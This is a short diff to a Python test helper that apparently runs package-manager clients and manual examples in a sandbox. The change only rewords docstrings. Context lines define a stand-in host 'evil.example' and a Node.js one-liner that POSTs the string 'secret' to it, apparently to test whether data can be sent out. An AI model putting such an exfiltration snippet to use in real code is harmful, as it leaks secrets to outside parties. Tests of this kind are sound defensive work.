@@ -1,5 +1,5 @@
-"""clients_inside.py -- what runs inside for clients.t: packages that post, programs
-that fetch, files of repositories; and the examples that the manual has."""
+"""clients_inside.py -- what clients.t runs inside: packages that send data out,
+programs that fetch, files of repositories; and the examples in the manual."""
 EVIL = "evil.example"
 POST = ("require('https').request({host: '%s', method: 'POST', path: '/take'})"
         ".on('error', e => { console.error(e.code); %s }).end('secret')")
@@ -73,8 +73,8 @@ require mod.example/thing v1.0.0
 
 
 def manual(text):
-    """(files, commands) of the examples with an own registry, as one types
-    them: "$ cat FILE" is followed by what is in it."""
+    """(files, commands) of the examples with a registry of one's own, as typed:
+    "$ cat FILE" is followed by what is in the file."""
     text = text[text.index("$ cat .npmrc"):]
     text = text[:text.index("\n.EE")].replace("\\e\n", "\\\n")
     for written, meant in (("\\-", "-"), ("\\(aq", "'")):
